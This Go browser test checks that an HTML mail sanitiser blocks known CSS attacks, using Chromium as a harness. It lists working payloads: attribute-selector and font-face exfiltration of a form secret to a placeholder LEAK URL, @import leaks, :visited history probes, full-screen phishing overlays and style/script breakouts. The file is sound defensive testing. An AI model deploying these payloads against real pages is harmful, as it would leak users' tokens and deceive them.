//go:build browser

package browsertest

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/htmlclean/htmlclean/policy"
	"github.com/htmlclean/htmlclean/sanitize"
)

// mailSecret is the value of the host page's form field that a mail's CSS
// must not read.
const mailSecret = "s3cretvalue"

// mailAttacks are mails carrying each known class of CSS attack; LEAK
// stands for a URL on the test's server that records what reaches it.
// control says the attack, unsanitised, works in Chromium: the test
// must see it there, or it proves nothing. (expression(), behaviours,
// bindings, javascript: and :visited backgrounds do nothing in today's
// Chromium; they are here for the browsers that ran them.)
var mailAttacks = []struct {
	name, mail string
	control    bool
}{
	{"attribute-selector-exfiltration", `<style>input[value^=s]{background:url(LEAK/s)} input[value*=cret]{background:url(LEAK/cret)} [value$=e]{background-image:url(LEAK/e)}</style><p>x</p>`, true},
	{"attribute-selector-escaped", `<style>inp\75 t[val\75 e^=s]{background:url(LEAK/esc)} in/**/put[value^=s]{background:url(LEAK/comment)}</style><p>x</p>`, true},
	{"import", `<style>@import url(LEAK/import.css); @import "LEAK/import2.css"; @\69mport url(LEAK/import3.css);</style><p>x</p>`, true},
	{"font-face-unicode-range", `<style>@font-face{font-family:leak;src:url(LEAK/font-s);unicode-range:U+73} body,input{font-family:leak}</style><p>s</p>`, true},
	{"url-to-script-and-data", `<style>p{background:url(javascript:alert(1))} a{background:url("data:text/html,<script>alert(1)</script>")}</style><p>x</p><a href="https://example.com/">l</a>`, false},
	{"expression-behavior-binding", `<style>p{width:expression(alert(1));behavior:url(LEAK/x.htc);-moz-binding:url(LEAK/x.xml#x)}</style><p>x</p>`, false},
	{"visited-history", `<style>a:visited{background:url(LEAK/visited)} a:link{background:url(LEAK/link)}</style><a href="https://example.com/">l</a>`, false},
	{"overlay-fixed", `<style>.x{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red}</style><div class="x">pay here</div>`, true},
	{"overlay-absolute-huge", `<style>.x{position:absolute;top:-2000px;left:-2000px;width:6000px;height:6000px;z-index:1000;background:red}</style><div class="x">pay here</div>`, true},
	{"overlay-inline", `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">pay here</div>`, true},
	{"outside-wrapper", `<style>html,body,:root{color:red;background:red;font-family:monospace} html body #host-probe{color:red} :root ~ *{color:red} #host-probe{color:red} *{font-size:40px} form input{display:none}</style><p>x</p>`, true},
	{"style-breakout", `<style>p{color:red}</style><script>alert(1)</script><style>p{content:"</style><img src=x onerror=alert(1)>"}</style><p>x</p>`, false},
}

// mailAttackPage is the host page a sanitised mail is shown in: a form with
// a secret, an element of the page's own, then the mail.
func mailAttackPage(mail string) string {
	return `<!DOCTYPE html><html><head><meta charset=utf-8><script>window.__alerted = 0; window.alert = () => { window.__alerted++ }</script></head><body style="margin:0">` +
		`<form id="host-form"><input id="secret" name="csrf" value="` + mailSecret + `"></form>` +
		`<div id="host-probe" style="height:40px">host</div>` + mail + `</body></html>`
}

// hostStyle lists the computed styles of the host page's own elements
// that a mail must not change, and whether any point of the viewport
// outside the mail's box is covered by the mail.
const hostStyle = `(() => {
	const props = ["color", "background-color", "background-image", "font-family", "font-size", "display", "visibility"];
	const out = [];
	for (const sel of ["html", "body", "#host-form", "#secret", "#host-probe"]) {
		const cs = getComputedStyle(document.querySelector(sel));
		out.push(sel + " " + props.map(p => p + ":" + cs.getPropertyValue(p)).join(";"));
	}
	const w = document.querySelector(".htmlclean-mail");
	if (w) {
		const r = w.getBoundingClientRect();
		for (const [x, y] of [[5, 5], [790, 5], [400, 20], [5, 1190], [790, 1190], [400, 1100]]) {
			if (x >= r.left && x < r.right && y >= r.top && y < r.bottom) continue;
			const e = document.elementFromPoint(x, y);
			if (e && w.contains(e)) out.push("covered at " + x + "," + y);
		}
	}
	out.push("alerted:" + (window.__alerted || 0));
	return out.join("\n");
})()`

// TestMailCSSAttacksInChromium: each attack, sanitised with the mail
// preset (remote content allowed, so that only the sanitiser stands in
// the way), shown in a page with a form holding a secret: no request
// carries the secret or reaches the attacker's URLs, no part of the mail
// covers the page outside its box, and the page's own elements keep
// their computed style.
func TestMailCSSAttacksInChromium(t *testing.T) {
	srv := newMailServer()
	defer srv.srv.Close()
	var log netLog
	ctx := mailBrowser(t, srv.srv.URL, true, chromedp.WithListener(log.onEvent))
	p, err := policy.Load(strings.NewReader("extends: mail\nremote_content: allow\nurls:\n  relative: allow\n"), "attack.yaml")
	if err != nil {
		t.Fatal(err)
	}
	baselineURL := srv.put("/baseline", mailAttackPage(""))
	baseline, err := evalPage(ctx, baselineURL)
	if err != nil {
		t.Fatal(err)
	}
	log.take(baselineURL)
	for i, a := range mailAttacks {
		t.Run(a.name, func(t *testing.T) {
			raw := strings.ReplaceAll(a.mail, "LEAK", srv.srv.URL+"/leak")
			if a.control {
				page := srv.put(fmt.Sprintf("/control/%d", i), mailAttackPage(`<div class="htmlclean-mail">`+raw+`</div>`))
				got, err := evalPage(ctx, page)
				if err != nil {
					t.Fatal(err)
				}
				leaked := slices.ContainsFunc(log.take(page), func(u string) bool { return strings.Contains(u, "/leak") })
				if !leaked && got == baseline {
					t.Fatalf("unsanitised, the attack does nothing in Chromium: the test cannot see it")
				}
			}
			clean, err := sanitize.String(raw, p)
			if err != nil {
				t.Fatal(err)
			}
			page := srv.put(fmt.Sprintf("/attack/%d", i), mailAttackPage(clean))
			got, err := evalPage(ctx, page)
			if err != nil {
				t.Fatal(err)
			}
			for _, u := range log.take(page) {
				if strings.Contains(u, mailSecret) || strings.Contains(u, "/leak") || strings.HasPrefix(u, "javascript:") {
					t.Errorf("request %s\nmail: %q", u, clean)
				}
			}
			if got != baseline {
				t.Errorf("the page around the mail changed:\nwithout the mail:\n%s\nwith it:\n%s\nmail: %q", baseline, got, clean)
			}
		})
	}
}

// evalPage loads u and returns hostStyle's report, with alert() counted.
func evalPage(ctx context.Context, u string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.Sleep(300*time.Millisecond)); err != nil {
		return "", err
	}
	return chromedp.Run(ctx, chromedp.Evaluate[string](hostStyle))
}
